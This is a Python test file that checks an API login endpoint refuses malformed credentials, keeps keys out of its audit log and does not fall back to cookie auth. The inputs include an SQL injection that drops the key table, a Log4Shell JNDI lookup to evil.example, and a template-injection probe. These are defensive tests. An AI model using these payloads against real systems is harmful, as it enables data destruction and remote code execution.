"""Attack: credentials that no parser expects, in the hope of an error page or of being taken for somebody."""

import pytest

from tests.attacks.wire import basic
from tests.site import issue

BROKEN = [
    "Basic",
    "Basic ",
    "Basic %%%",
    "Basic YQ",
    "Basic =====",
    "Basic bm9jb2xvbg==",
    "Basic \xff\xfe",
    "Basic " + "A" * 10_001,
    "Basic YTpi YTpi",
    "Bearer",
    "Bearer \x7f",
    "Bearer a b c",
    "bearer\tkey",
    "Digest username=admin",
    "Negotiate YII=",
    "AWS4-HMAC-SHA256 Credential=x",
    "Token x",
    "apikey",
    ":",
    "'; DROP TABLE keyhouse_api_key; --",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
]


@pytest.mark.parametrize("value", BROKEN)
def test_what_cannot_be_read_is_refused_and_not_taken_for_a_guest(site, client, value):
    answer = client.get("/login-whoAmI.api", {"Authorization": value})
    assert answer.status == 401
    assert set(answer.json) == {"success", "exception"} and "Traceback" not in answer.text


@pytest.mark.parametrize(
    "value", ["", " ", ",", "a,b", "a, a", "%", "\xff", "null", "undefined", "0", "[]", "0" * 10_000]
)
def test_a_broken_apikey_header_is_refused(site, client, value):
    assert client.get("/login-whoAmI.api", {"apikey": value}).status == 401


def test_the_key_as_user_name_is_refused_and_kept_out_of_the_log(site, client, analyst):
    from keyhouse.audit.models import AuditEvent

    key = issue(site, analyst)
    for headers in (basic(key, ""), basic(key, "apikey"), basic("api_key", key), basic("APIKEY", key)):
        assert client.get("/login-whoAmI.api", headers).status == 401
    assert key[17:] not in repr(list(AuditEvent.objects.values()))


def test_a_broken_credential_does_not_fall_back_to_the_cookie(site, client, analyst):
    from tests.site import sign_in

    sign_in(client, analyst.email)
    assert client.get("/login-whoAmI.api", {"Authorization": "Basic %%%"}).status == 401
